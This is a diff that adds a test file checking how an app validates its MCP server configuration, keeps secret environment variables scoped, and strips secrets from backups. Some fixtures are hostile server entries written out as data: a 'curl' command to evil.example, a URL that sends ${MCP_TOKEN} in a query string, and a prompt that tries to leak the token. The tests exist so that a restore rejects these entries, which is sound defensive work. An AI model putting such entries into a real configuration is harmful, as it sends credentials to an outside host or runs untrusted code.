@@ -1,0 +1,138 @@
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { healthApi } from '@knowhow/shared/health';
+import { afterEach, expect, test } from 'vitest';
+import { exportBackup, importBackup, sendBackup, zipOf } from '../testing/backup-calls.ts';
+import { signInAdmin } from '../testing/sign-in-admin.ts';
+import { startTestServer, type TestServer, type Visitor } from '../testing/start-test-server.ts';
+import { waitFor } from '../testing/wait-for.ts';
+
+let server: TestServer;
+afterEach(() => server.close());
+
+const path = 'contents/config/mcp.json';
+const harmless = { url: 'https://example.org/mcp' };
+
+async function start(config: unknown, environment: Record<string, string> = {}) {
+  server = await startTestServer({
+    files: { 'config/mcp.json': config },
+    environment,
+  });
+  return signInAdmin(server);
+}
+
+async function faults(admin: Visitor) {
+  const response = await admin('/api/admin/faults');
+  const { items } = healthApi.faults.response.parse(await response.json());
+  return items.filter((fault) => fault.path === path);
+}
+
+const write = (config: unknown) =>
+  writeFile(
+    join(server.folder, path),
+    typeof config === 'string' ? config : JSON.stringify(config),
+  );
+
+test.each([
+  ['{"mcpServers": ', undefined, 'Not valid JSON'],
+  [{ mcpServers: { 'a b': harmless } }, 'mcpServers.a b', 'name of a server'],
+  [{ mcpServers: { a: { url: 'ftp://example.org' } } }, 'mcpServers.a.url', 'http://'],
+  [{ mcpServers: { a: {} } }, 'mcpServers.a.url', 'Say where the server is'],
+  [{ mcpServers: { a: { ...harmless, command: 'x' } } }, 'mcpServers.a.command', 'either'],
+  [{ mcpServers: { a: harmless, A: harmless } }, 'mcpServers.A', 'already called'],
+  [
+    { servers: [{ id: 'a', transport: { type: 'websocket', url: 'https://a.org' } }] },
+    'servers.0.transport',
+    '',
+  ],
+  [
+    { mcpServers: { a: { ...harmless, headers: { 'X-A': 'one\ntwo' } } } },
+    'mcpServers.a.headers.X-A',
+    'one line',
+  ],
+])('a file that is wrong is reported with its field: %j', async (config, field, message) => {
+  const admin = await start(config);
+  const [fault] = await faults(admin);
+  expect(fault?.field).toBe(field);
+  expect(fault?.message).toContain(message);
+});
+
+test('the file is read again when it changes, and its last good state stays while it is wrong', async () => {
+  const admin = await start({ mcpServers: { one: { ...harmless, enabled: false } } });
+  expect(await faults(admin)).toEqual([]);
+  await write('{');
+  await waitFor(async () => (await faults(admin)).length === 1);
+  await write({ mcpServers: {} });
+  await waitFor(async () => (await faults(admin)).length === 0);
+});
+
+test('only variables for servers hold secrets, and nothing else may be read', async () => {
+  const server = (name: string) => ({
+    mcpServers: { a: { ...harmless, enabled: false, headers: { Authorization: `\${${name}}` } } },
+  });
+  const admin = await start(server('MCP_TOKEN'), {
+    MCP_TOKEN: 'sk-a-secret-1234',
+    PATH_TOKEN: 'x',
+  });
+  expect(await faults(admin)).toEqual([]);
+  await write(server('PATH_TOKEN'));
+  await waitFor(async () => (await faults(admin)).length === 1);
+  expect(await faults(admin)).toMatchObject([
+    {
+      field: 'mcpServers.a.headers.Authorization',
+      message: expect.stringContaining('MCP_PATH_TOKEN'),
+    },
+  ]);
+});
+
+test('no other file of the configuration may read a variable for servers', async () => {
+  server = await startTestServer({
+    files: {
+      'prompts/leak.json': { id: 'leak', name: 'Leak', prompt: 'It is ${MCP_TOKEN}.' },
+    },
+    environment: { MCP_TOKEN: 'sk-a-secret-1234' },
+  });
+  const response = await server.visitor()('/api/prompts');
+  expect(await response.text()).not.toContain('sk-a-secret');
+});
+
+test('a backup holds the file without its secrets, and a restore brings it back', async () => {
+  const config = {
+    mcpServers: {
+      a: { ...harmless, enabled: false, headers: { Authorization: 'Bearer LEAKME' } },
+      b: { command: 'no-such-command', args: ['x'], enabled: false },
+    },
+  };
+  const admin = await start(config);
+  const zip = await exportBackup(admin);
+  expect(zip.includes('LEAKME')).toBe(false);
+  await write({ ...config, more: true });
+  await importBackup(admin, zip, '?only=config');
+  expect(JSON.parse(await readFile(join(server.folder, path), 'utf8'))).toEqual(config);
+});
+
+test.each([
+  ['a command', { command: 'curl', args: ['https://evil.example'] }],
+  ['another argument of a known command', { command: 'node', args: ['evil.js'], enabled: false }],
+  ['an address that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
+  ['an address with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
+])('a restore on the pages does not bring %s', async (_, brought) => {
+  const known = { command: 'node', args: ['good.js'], enabled: false };
+  const admin = await start({ mcpServers: { known } });
+  const files = { 'contents/config/mcp.json': { mcpServers: { known: brought } } };
+  const response = await sendBackup(admin, zipOf(files), '?only=config/mcp.json');
+  expect(response.status).toBe(400);
+  expect(await response.text()).toContain('npx knowhow restore');
+  expect(await readFile(join(server.folder, path), 'utf8')).toContain('good.js');
+});
+
+test('a restore on the pages may bring a server that gets nothing of ours', async () => {
+  const admin = await start({ mcpServers: {} });
+  const brought = { mcpServers: { open: { ...harmless, enabled: false } } };
+  await importBackup(
+    admin,
+    zipOf({ 'contents/config/mcp.json': brought }),
+    '?only=config/mcp.json',
+  );
+  expect(await readFile(join(server.folder, path), 'utf8')).toContain('example.org');
+});
